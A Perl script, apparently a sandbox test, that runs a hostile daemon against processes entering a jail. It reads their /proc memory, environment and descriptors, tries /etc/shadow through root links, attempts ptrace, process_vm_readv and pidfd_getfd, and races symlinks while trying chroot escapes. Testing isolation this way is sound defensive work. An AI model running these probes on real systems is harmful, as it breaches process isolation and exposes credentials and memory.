# The daemon, hostile: looks for processes that enter its jail and tries to get at them, and plays with the files that it may
# write. What it got is written to $ENV{DIR}/won, a line each; how often it has seen somebody to $ENV{DIR}/seen.
use POSIX ();
$| = 1;
my $dir = $ENV{DIR};
open my $won, '>>', "$dir/won" or die;
select((select($won), $| = 1)[0]);
my ($mine, %met) = ($$);
my $room = "\0" x 4096;
my $iovec = pack 'Q2', unpack('Q', pack 'P', $room), 8;

# syscall() writes to its arguments.
sub call { my ($name, @words) = @_; syscall($N{$name}, @words) }
sub won { print $won "@_\n" }

sub attack {
    my ($pid) = @_;
    my $at = "/proc/$pid";
    for my $file (qw(mem environ maps auxv smaps pagemap syscall stack io)) {
        if (open my $got, '<', "$at/$file") { won("$file of $pid") if sysread($got, my $bytes, 64) }
    }
    won("write mem of $pid") if open my $mem, '+<', "$at/mem";
    for my $link (qw(exe root cwd fd/0 fd/1 fd/2 fd/3 fd/4 fd/5 fd/6 ns/mnt ns/pid map_files)) {
        won("link $link of $pid") if defined readlink "$at/$link";
    }
    for my $path ("root/etc/shadow", "root/etc/passwd", "cwd/etc/shadow", "exe", "fd/3", "fd/4", "fd/5") {
        won("open $path of $pid") if open my $got, '<', "$at/$path";
        won("write $path of $pid") if open my $got, '+<', "$at/$path";
    }
    # How many descriptors there are, and no more, a process of the same uid may always know: fd itself is left out.
    for my $list (qw(map_files fdinfo)) {
        opendir my $directory, "$at/$list" or next;
        won("list $list of $pid") if grep { !/^\./ } readdir $directory;
    }
    won("attach $pid") if call('ptrace', 16, $pid, 0, 0) != -1;
    won("seize $pid") if call('ptrace', 0x4206, $pid, 0, 0) != -1;
    won("read $pid") if call('process_vm_readv', $pid, $iovec, 1, pack('Q2', 0x400000, 8), 1, 0) > 0;
    my $held = call('pidfd_open', $pid, 0);
    if ($held != -1) {
        for my $fd (0 .. 6) { won("descriptor $fd of $pid") if call('pidfd_getfd', $held, $fd, 0) != -1 }
        POSIX::close($held);
    }
    kill 'CONT', $pid;
}

# Beside it: what it may write moves all the time, and leads elsewhere.
if (!fork) {
    for (my $i = 0; ; $i++) {
        for my $name ('tool', 'libc.so.6', 'ld.so.cache') {
            unlink "$dir/$name"; symlink '/proc/1/root', "$dir/$name";
            rename "$dir/$name", "$dir/$name.old";
        }
        rename "$dir/deep", "$dir/deeper"; rename "$dir/deeper", "$dir/deep";
        mkdir "/tmp/usr"; symlink '/proc/self/exe', "/tmp/usr/x$i"; unlink "/tmp/usr/x$i";
        call('mount', 'none', '/tmp', 'tmpfs', 0, ''); call('umount2', '/', 2); call('chroot', '/tmp');
        select undef, undef, undef, 0.001;
    }
}
print "ready\n";
for (;;) {
    opendir my $proc, '/proc' or next;
    my @pids = grep { /^\d+$/ && $_ != $mine && $_ > 1 } readdir $proc;
    closedir $proc;
    for my $pid (@pids) {
        if (open my $stat, '<', "/proc/$pid/stat") { (split ' ', (<$stat> // '') =~ s/.*\) //r)[1] == $mine and next }
        $met{$pid}++;
        attack($pid) for 1 .. 3;
    }
    if (open my $file, '>', "$dir/seen.new") { print $file scalar keys %met; close $file; rename "$dir/seen.new", "$dir/seen" }
}
